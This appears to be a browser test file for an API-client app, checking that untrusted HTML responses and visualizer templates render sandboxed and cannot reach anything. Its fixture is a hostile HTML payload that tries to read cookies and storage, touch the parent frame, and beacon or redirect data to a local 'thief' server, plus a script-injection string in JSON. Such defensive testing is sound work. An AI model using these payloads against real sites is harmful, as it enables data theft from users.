// Pages of somebody else's in the app: a response that is HTML, and what a collection's script made with
// pm.visualizer. They are shown, and can do nothing else, whatever stands in them.
import assert from 'node:assert/strict';
import { createServer as createHttp } from 'node:http';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { call, importDocument, missing, startApp, startBrowser } from './support.mjs';

const skip = missing();
let app;
let browser;
let page;
let api;
/** Where stolen things would arrive: whoever says something is noted. */
let thief;
const callers = [];

/** Everything that tells the thief something, or leaves the frame. */
const loot = (port) => `
  <link rel="stylesheet" href="http://127.0.0.1:${port}/style">
  <link rel="prefetch" href="http://127.0.0.1:${port}/prefetch">
  <link rel="preconnect" href="http://127.0.0.1:${port}">
  <img src="http://127.0.0.1:${port}/image">
  <style>@import "http://127.0.0.1:${port}/import"; body { background: url(http://127.0.0.1:${port}/background) }</style>
  <iframe src="http://127.0.0.1:${port}/frame"></iframe>
  <object data="http://127.0.0.1:${port}/object"></object>
  <form action="http://127.0.0.1:${port}/form"><input name="a"><button id="submit">go</button></form>
  <h1 style="color: rgb(1, 2, 3)">A page of theirs</h1>
  <script>
    document.title = 'ran';
    const tried = [];
    const attempt = (name, action) => { try { tried.push(name + ': ' + action()); } catch (error) { tried.push(name + ': ' + error.name); } };
    const at = 'http://127.0.0.1:${port}';
    attempt('origin', () => self.origin);
    attempt('storage', () => localStorage.length);
    attempt('session', () => sessionStorage.length);
    attempt('cookie', () => document.cookie);
    attempt('parent', () => parent.document.title);
    attempt('popup', () => open(at + '/popup') === null ? 'none' : 'opened');
    attempt('socket', () => { new WebSocket('ws://127.0.0.1:${port}/socket'); return 'asked'; });
    attempt('events', () => { new EventSource(at + '/events'); return 'asked'; });
    attempt('beacon', () => navigator.sendBeacon(at + '/beacon', 'x'));
    attempt('worker', () => { new Worker('data:text/javascript,fetch("' + at + '/worker")'); return 'asked'; });
    fetch(at + '/fetch', { mode: 'no-cors' }).catch(() => undefined);
    fetch('/agent/v1/status').catch(() => undefined);
    attempt('submit', () => { document.getElementById('submit').click(); return 'asked'; });
    attempt('top', () => { top.location = at + '/top'; return 'asked'; });
    document.getElementById('tried').textContent = tried.join('\\n');
    setTimeout(() => { location = at + '/self'; }, 1000);
  </script>`;

const item = (name, port, path, script) => ({
  name,
  request: { method: 'GET', header: [], url: { raw: `http://127.0.0.1:${port}${path}` } },
  event: script ? [{ listen: 'test', script: { exec: script.split('\n') } }] : [],
});

before(async () => {
  if (skip) return;
  thief = createServer((socket) => {
    socket.once('data', (bytes) => callers.push(bytes.toString('latin1').split('\r\n')[0]));
    socket.on('error', () => undefined);
  });
  await new Promise((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const evil = loot(thief.address().port);
  api = createHttp((request, response) => {
    if (request.url === '/page') {
      response.setHeader('Content-Type', 'text/html');
      response.end(
        `<pre id="tried">no script ran</pre>${evil}<meta http-equiv="refresh" content="0; url=http://127.0.0.1:${thief.address().port}/refresh">`,
      );
    } else {
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify({ names: ['Anna', 'Ben', '</script><script>document.title="out"</script>'] }));
    }
  });
  await new Promise((resolve) => api.listen(0, '127.0.0.1', resolve));
  app = await startApp();
  const workspace = await call(app, 'POST', '/api/v1/workspaces', { kind: 'personal', name: 'Frames' });
  const { port } = api.address();
  const collection = {
    info: { name: 'Theirs', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [
      item('A page', port, '/page'),
      item(
        'Names',
        port,
        '/names',
        `pm.visualizer.set('<ul>{{#each names}}<li style="color: rgb(1, 2, 3)">{{this}}</li>{{/each}}</ul><p id="count"></p><script>pm.getData((error, data) => { document.getElementById("count").textContent = data.names.length + " names"; });</scr' + 'ipt>', pm.response.json());`,
      ),
      item('Thief', port, '/names', `pm.visualizer.set(${JSON.stringify(`<pre id="tried"></pre>${evil}`)}, {});`),
    ],
  };
  await importDocument(app, workspace.id, 'theirs', collection);
  browser = await startBrowser({ disable: ['LocalNetworkAccessChecks', 'LocalNetworkAccessChecksWebSockets'] });
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  await page.goto(app.url);
  await page.getByRole('treeitem', { name: 'Theirs' }).click();
});

after(async () => {
  await browser?.close();
  api?.close();
  thief?.close();
  await app?.end();
});

async function send(name) {
  await page.getByRole('treeitem', { name }).click();
  await page.getByRole('tab', { name }).first().waitFor();
  const answered = page.waitForResponse((response) => response.url().endsWith('/agent/v1/send'));
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await (await answered).finished();
  await page.getByText('200 OK').first().waitFor();
}

test('an HTML response is shown with its styles, and none of its scripts', { skip }, async () => {
  await send('A page');
  await page.getByText('Preview', { exact: true }).click();
  const frame = page.frameLocator('iframe[title="Preview of the page"]');
  const heading = frame.getByRole('heading', { name: 'A page of theirs' });
  await heading.waitFor();
  assert.equal(await heading.evaluate((element) => globalThis.getComputedStyle(element).color), 'rgb(1, 2, 3)');
  assert.equal(await frame.locator('#tried').textContent(), 'no script ran');
});

test('it is served once, and not to a page that only knows its address', { skip }, async () => {
  const { path } = await call(app, 'POST', '/agent/v1/frames', { html: '<p>mine</p>', scripts: false });
  const at = `http://127.0.0.1:${app.port}${path}`;
  assert.equal((await fetch(at, { headers: { Origin: 'http://foreign.example' } })).status, 403);
  assert.equal((await fetch(at, { headers: { 'Sec-Fetch-Site': 'cross-site' } })).status, 403);
  assert.equal((await fetch(at)).status, 200);
  assert.equal((await fetch(at)).status, 404);
});

test('the visualizer shows what the template makes of the data, and its script gets them', { skip }, async () => {
  await send('Names');
  await page.getByRole('tab', { name: 'Visualizer' }).click();
  const frame = page.frameLocator('iframe[title="Visualizer"]');
  await frame.getByText('3 names').waitFor();
  const name = frame.getByText('Anna');
  assert.equal(await name.evaluate((element) => globalThis.getComputedStyle(element).color), 'rgb(1, 2, 3)');
});

test('a template of a thief reaches nothing and nobody', { skip }, async () => {
  await send('Thief');
  const refused = page.waitForEvent('console', (message) => message.text().includes("frame-src 'self'"));
  await page.getByRole('tab', { name: 'Visualizer' }).click();
  const frame = page.frameLocator('iframe[title="Visualizer"]');
  const tried = frame.locator('#tried');
  await tried.filter({ hasText: 'top:' }).waitFor();
  const outcomes = Object.fromEntries((await tried.textContent()).split('\n').map((line) => line.split(': ')));
  assert.equal(outcomes.origin, 'null');
  for (const name of ['storage', 'session', 'cookie', 'parent', 'top'])
    assert.equal(outcomes[name], 'SecurityError', name);
  assert.equal(outcomes.popup, 'none');
  // It takes itself elsewhere in the end, which the app's policy refuses: it knows no other frames.
  await refused;
  assert.equal(new URL(page.url()).port, String(app.port));
  assert.equal(await page.getByRole('tab', { name: 'Visualizer' }).count(), 1);
  // The browser opens a connection for rel=preconnect, which no policy forbids; nothing was said on it.
  assert.deepEqual(callers, []);
});
